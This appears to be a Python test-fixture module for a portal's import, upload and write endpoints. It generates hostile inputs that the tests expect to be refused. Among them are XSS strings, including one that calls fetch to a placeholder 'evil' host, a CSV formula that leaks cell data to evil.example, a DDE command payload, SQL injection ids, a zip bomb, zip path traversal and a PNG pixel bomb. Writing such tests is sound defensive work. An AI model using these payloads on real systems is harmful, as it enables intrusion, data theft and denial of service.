"""Hostile inputs, generated in code with fixed seeds: geometries, text, bodies and files.

Each generator returns what a client would send; the tests in this folder send them to every import, upload
and write endpoint and check that each is refused with a 4xx in the portal's error shape, writing nothing.
"""

from __future__ import annotations

import functools
import io
import json
import math
import random
import zipfile

LON, LAT = 106.695, 10.7812  # inside ward A, khu phố A1 of tests/conftest.py's world
SEED = 17


def ring(lon: float = LON, lat: float = LAT, d: float = 1e-4) -> list[list[float]]:
    return [[lon, lat], [lon + d, lat], [lon + d, lat - d], [lon, lat - d], [lon, lat]]


@functools.cache
def million_vertex_ring() -> list[list[float]]:
    """A closed ring of 1,000,000 vertices around a point: a geometry no edit or import should swallow."""
    rnd = random.Random(SEED)
    n = 1_000_000
    pts = [
        [
            round(LON + 1e-3 * math.cos(2 * math.pi * i / n) * (1 + rnd.random() * 1e-3), 7),
            round(LAT + 1e-3 * math.sin(2 * math.pi * i / n), 7),
        ]
        for i in range(n - 1)
    ]
    return [*pts, pts[0]]


# (id, geometry) — each one wrong in its own way. Point geometries for point endpoints, polygons for areas.
def bad_points() -> list[tuple[str, object]]:
    return [
        ("point-nan", {"type": "Point", "coordinates": [float("nan"), float("nan")]}),
        ("point-infinity", {"type": "Point", "coordinates": [float("inf"), LAT]}),
        ("point-1e400", "1e400"),  # JSON's way to say infinity: parsed as inf by Python's json
        ("point-out-of-range", {"type": "Point", "coordinates": [200.0, 95.0]}),
        ("point-swapped", {"type": "Point", "coordinates": [LAT, LON]}),
        ("point-string-coords", {"type": "Point", "coordinates": ["106.695", "10.78; DROP TABLE x"]}),
        ("point-empty", {"type": "Point", "coordinates": []}),
        (
            "point-3857-crs",
            {
                "type": "Point",
                "coordinates": [11877000.0, 1207000.0],
                "crs": {"type": "name", "properties": {"name": "EPSG:3857"}},
            },
        ),
        ("point-wrong-type", {"type": "Circle", "coordinates": [LON, LAT], "radius": 5}),
        ("point-is-polygon", {"type": "Polygon", "coordinates": [ring()]}),
        ("point-not-object", "POINT(106.695 10.78)"),
    ]


def bad_polygons() -> list[tuple[str, object]]:
    bowtie = [[LON, LAT], [LON + 1e-4, LAT - 1e-4], [LON + 1e-4, LAT], [LON, LAT - 1e-4], [LON, LAT]]
    return [
        ("polygon-million-vertices", {"type": "Polygon", "coordinates": [million_vertex_ring()]}),
        ("polygon-self-intersecting", {"type": "Polygon", "coordinates": [bowtie]}),
        ("polygon-unclosed", {"type": "Polygon", "coordinates": [ring()[:-1]]}),
        ("polygon-two-points", {"type": "Polygon", "coordinates": [[[LON, LAT], [LON, LAT]]]}),
        ("polygon-nan", {"type": "Polygon", "coordinates": [[[float("nan"), LAT], *ring()[1:]]]}),
        ("polygon-out-of-range", {"type": "Polygon", "coordinates": [ring(300.0, 100.0)]}),
        (
            "polygon-3857-crs",
            {
                "type": "Polygon",
                "coordinates": [ring(11877000.0, 1207000.0, 10.0)],
                "crs": {"type": "name", "properties": {"name": "EPSG:3857"}},
            },
        ),
        ("polygon-is-point", {"type": "Point", "coordinates": [LON, LAT]}),
    ]


# Text a person would not type: markup, bidi controls, look-alike letters, NUL, formulas, 2 MB.
BIDI_NAME = "Phở \u202eaóH\u202c"  # shows as "Phở Hóa" reversed: the name check would not see it
LOOKALIKE_NAME = "Ph\u043e Ho\u0430"  # Cyrillic о and а in "Pho Hoa"
HOSTILE_TEXT = [
    ("html-script", "<script>alert(1)</script>Phở"),
    ("html-img-onerror", "Cà phê <img src=x onerror=\"fetch('//evil')\">"),
    ("bidi-override", BIDI_NAME),
    ("lookalike-cyrillic", LOOKALIKE_NAME),
    ("nul-byte", "Phở\x00Hòa"),
    ("csv-formula", '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'),
    ("csv-dde", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("two-megabytes", "Phở " * (2 * 2**20 // 4)),
]
# SQL where a number or an id belongs: refused as not a number (text fields store SQL as the text it is).
SQL_IDS = ["1 OR 1=1", "1; DROP TABLE businesses_business; --", "1' UNION SELECT password FROM auth_user --"]


def ten_megabyte_json(base: dict) -> bytes:
    """`base` with a 10 MB member: a body far past what any form of the portal needs."""
    rnd = random.Random(SEED)
    pad = "".join(rnd.choice("abcdefghij") for _ in range(1024)) * (10 * 1024)
    return json.dumps({**base, "padding": pad}).encode()


def dumps(obj) -> str:
    """JSON as a hostile client writes it: NaN and Infinity emitted as bare tokens (json's allow_nan)."""
    return json.dumps(obj, allow_nan=True)


# Files.
def zip_bomb() -> bytes:
    """One member of 200 MB of zeros (≈200 KB compressed): the ratio gives it away before anything inflates."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        with z.open("data.csv", "w", force_zip64=True) as member:
            chunk = b"0" * 2**20
            for _ in range(200):
                member.write(chunk)
    return out.getvalue()


def zip_traversal(inner_name: str = "points.csv", body: bytes = b"lon,lat,name\n106.695,10.7812,x\n") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr(f"../../../../tmp/{inner_name}", body)
        z.writestr(f"/etc/{inner_name}", body)
    return out.getvalue()


def xlsx_with_formula(rows: list[list[object]]) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def xlsm_with_macro(rows: list[list[object]]) -> bytes:
    """An XLSX whose package carries a VBA project (what a macro-enabled workbook holds), named .xlsx."""
    base = xlsx_with_formula(rows)
    src = zipfile.ZipFile(io.BytesIO(base))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            z.writestr(info, src.read(info.filename))
        z.writestr(
            "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(random.Random(SEED).randbytes(4096))
        )
    return out.getvalue()


def corrupt_tiffs() -> list[tuple[str, bytes]]:
    rnd = random.Random(SEED)
    return [
        ("tiff-random-bytes", rnd.randbytes(64 * 1024)),
        ("tiff-magic-then-garbage", b"II*\x00" + rnd.randbytes(64 * 1024)),
        ("tiff-bigtiff-header-only", b"II+\x00\x08\x00\x00\x00" + b"\xff" * 8),
        ("tiff-is-a-zip", zip_traversal()),
        ("tiff-empty", b""),
    ]


def tiff_without_crs() -> bytes:
    """A valid GeoTIFF with no coordinate system: where it lies cannot be known."""
    import numpy as np
    from rasterio.io import MemoryFile

    with MemoryFile() as mem:
        with mem.open(driver="GTiff", width=64, height=64, count=3, dtype="uint8") as dst:
            dst.write(np.zeros((3, 64, 64), dtype="uint8"))
        return mem.read()


def jpeg_bytes() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (64, 48), (10, 20, 30)).save(out, "JPEG")
    return out.getvalue()


def hostile_photos() -> list[tuple[str, str, bytes]]:
    """(id, file name, bytes) of photos a report should refuse."""
    rnd = random.Random(SEED)
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    html_as_jpeg = b"<html><script>alert(1)</script></html>"
    # A PNG declaring 60,000 × 60,000 pixels: a decompression bomb by its header alone.
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    png_bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0))
    png_bomb += chunk(b"IDAT", zlib.compress(b"\x00" * 1024)) + chunk(b"IEND", b"")
    return [
        ("photo-svg-script", "anh.svg", svg),
        ("photo-html-named-jpg", "anh.jpg", html_as_jpeg),
        ("photo-random-bytes", "anh.jpg", rnd.randbytes(32 * 1024)),
        ("photo-pixel-bomb", "anh.png", png_bomb),
        ("photo-traversal-name", "../../../etc/passwd.jpg", rnd.randbytes(1024)),
    ]
